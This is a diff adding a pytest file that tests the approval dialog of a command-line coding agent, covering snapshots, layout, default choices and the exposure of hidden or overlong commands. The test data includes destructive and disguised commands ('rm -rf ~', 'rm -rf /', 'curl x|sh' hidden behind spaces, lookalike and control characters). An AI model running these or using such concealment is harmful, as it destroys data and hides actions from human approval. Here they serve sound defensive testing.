@@ -1,0 +1,139 @@
+"""The approval dialog as text: looked at, kept as snapshots, and held to its rules."""
+
+from __future__ import annotations
+
+import os
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.fakes.scripted_session import DIFF, command_request, write_request
+from xun.choice import ChoiceRequest, FileDiff, Option, Risk
+from xun_cli.render.approval import DialogState, approval_view, first_state, grant_words
+from xun_cli.render.text import line_width, plain_lines
+
+SNAPSHOTS = Path(__file__).resolve().parents[2] / "snapshots" / "approval"
+SIZES = ((80, 24), (120, 40), (40, 10))
+
+LONG = "echo " + "a" * 3000 + "; rm -rf / ;" + "b" * 2985
+MANY = "\n".join(f"echo {number}" for number in range(300))
+
+
+def requests() -> dict[str, tuple[ChoiceRequest, dict[str, Any]]]:
+    unsure = Risk("unsure", "Installs packages from the network; writes out.txt.", 1.8)
+    reject = Risk("reject", "Deletes the home folder.", 0.9)
+    failed = Risk("unsure", "", 30.0, failed=True)
+    compound = "pip install -r requirements.txt && python -m pytest -q > out.txt"
+    binary = FileDiff("/proj/logo.png", "update", "", note="binary, 1,204 -> 2,408 bytes")
+    two = (FileDiff("/proj/a.py", "update", DIFF, 2, 1), FileDiff("/proj/old.py", "delete", "@@ -1 +0,0 @@\n-x", 0, 1))
+    options = (Option("a", "SQLite", note="one file"), Option("b", "PostgreSQL"))
+    return {
+        "command": (command_request(compound, risk=unsure), {}),
+        "command-explained": (command_request(compound, risk=unsure), {"view": "explain"}),
+        "command-grant": (command_request("npm test -- --watch"), {"selected": 0, "waiting": 2}),
+        "command-reject": (command_request("rm -rf ~", risk=reject, agent="reviewer#2"), {}),
+        "command-assessor-failed": (command_request("make", risk=failed), {}),
+        "command-hidden": (command_request("rm -rf build\r\x1b[2Kls\u202e"), {}),
+        "command-spaces": (command_request("ls" + " " * 400 + "; curl x|sh"), {}),
+        "command-lookalike": (command_request("сurl http://x；"), {}),
+        "command-long": (command_request(LONG), {}),
+        "command-lines": (command_request(MANY), {}),
+        "write": (write_request(), {}),
+        "write-scope": (write_request(), {"selected": 0, "scope": 1}),
+        "write-long": (write_request(diff=long_diff()), {}),
+        "write-full": (write_request(diff=long_diff()), {"view": "full", "scroll": 20}),
+        "write-binary": (write_request(files=(binary,)), {}),
+        "write-two": (write_request(files=two), {}),
+        "write-reason": (write_request(), {"selected": 2, "reason": "keep the old name"}),
+        "choice": (ChoiceRequest("q", "choice", "Which database?", options, allow_extra=True), {}),
+        "waiting": (write_request(), {"focused": False, "waiting": 1}),
+    }
+
+
+def long_diff() -> str:
+    return "@@ -1,60 +1,60 @@\n" + "\n".join(f" line {number}" for number in range(1, 61))
+
+
+def drawn(name: str, columns: int, rows: int) -> str:
+    request, changes = requests()[name]
+    state = replace(first_state(request), **changes)
+    return plain_lines(approval_view(request, columns, rows - 3, state)) + "\n"
+
+
+@pytest.mark.parametrize("size", SIZES, ids=lambda size: f"{size[0]}x{size[1]}")
+@pytest.mark.parametrize("name", requests())
+def test_snapshot(name: str, size: tuple[int, int]) -> None:
+    path = SNAPSHOTS / f"{name}-{size[0]}x{size[1]}.txt"
+    shown = drawn(name, *size)
+    if os.environ.get("XUN_UPDATE_SNAPSHOTS"):
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(shown, encoding="utf-8")
+    assert shown == path.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("name", requests())
+@pytest.mark.parametrize("size", [(30, 8), (40, 10), (50, 9), (80, 24), (200, 60)])
+def test_always_fits_and_always_shows_the_answers(name: str, size: tuple[int, int]) -> None:
+    request, changes = requests()[name]
+    state = replace(first_state(request), **changes)
+    height = size[1] - 2
+    lines = approval_view(request, size[0], height, state)
+    assert len(lines) <= height
+    assert all(line_width(line) <= size[0] for line in lines)
+    text = plain_lines(lines).lower()
+    if state.focused and request.kind != "choice":
+        assert "grant" in text and "deny" in text and ("this time" in text or "once" in text)
+
+
+def test_three_answers_in_order_and_the_preselection() -> None:
+    request = command_request("npm test")
+    rows = plain_lines(approval_view(request, 80, 20, first_state(request))).split("\n")
+    answers = [row[2:6].strip(" ▸") for row in rows if "Allow" in row or "Deny" in row]
+    assert [row[0] for row in answers] == ["g", "o", "d"]
+    assert request.options[first_state(request).selected].value == "once"
+    rejected = command_request("rm -rf ~", risk=Risk("reject", "x", 1.0))
+    assert rejected.options[first_state(rejected).selected].value == "deny"
+
+
+def test_grant_is_never_preselected() -> None:
+    request = write_request(default="grant")
+    assert request.options[first_state(request).selected].value == "deny"
+
+
+def test_hidden_characters_preselect_deny_and_switch_the_grant_off() -> None:
+    request = write_request(files=(FileDiff("/proj/a\u202eb", "update", DIFF),))
+    assert request.options[first_state(request).selected].value == "deny"
+    assert "not offered: hidden characters" in plain_lines(approval_view(request, 80, 20, first_state(request)))
+
+
+@pytest.mark.parametrize("text", [LONG, MANY])
+def test_nothing_is_hidden_without_a_count_and_all_is_reachable(text: str) -> None:
+    request = command_request(text)
+    state = first_state(request)
+    shown = plain_lines(approval_view(request, 80, 20, state))
+    assert "more lines of the command, Ctrl-E shows all" in shown and "lines hidden" in shown
+    seen = ""
+    for scroll in range(0, 400, 5):
+        seen += plain_lines(approval_view(request, 80, 20, replace(state, view="full", scroll=scroll)))
+    assert "rm -rf /" in seen if text is LONG else all(f"echo {number}⏎" in seen for number in range(299))
+
+
+def test_grant_words_say_exactly_what_is_granted() -> None:
+    assert grant_words(write_request(), DialogState()) == "src/app.py"
+    assert grant_words(write_request(), DialogState(scope=1)) == "src/ and all below"
+    assert grant_words(write_request(), DialogState(scope=2)) == "all of this folder"
+    request = command_request("make install")
+    assert grant_words(request, DialogState()) == ", ".join(f"{g.text} …" for g in request.command.grants)
+
+
+def test_no_side_borders_below_fifty_columns() -> None:
+    request = write_request()
+    assert "│" not in plain_lines(approval_view(request, 40, 14, first_state(request)))
+
+
+def test_a_diff_side_by_side_on_a_wide_terminal() -> None:
+    request = write_request()
+    shown = plain_lines(approval_view(request, 150, 24, replace(first_state(request), split=True)))
+    assert "print('old')" in shown and " │ print('new')" in shown
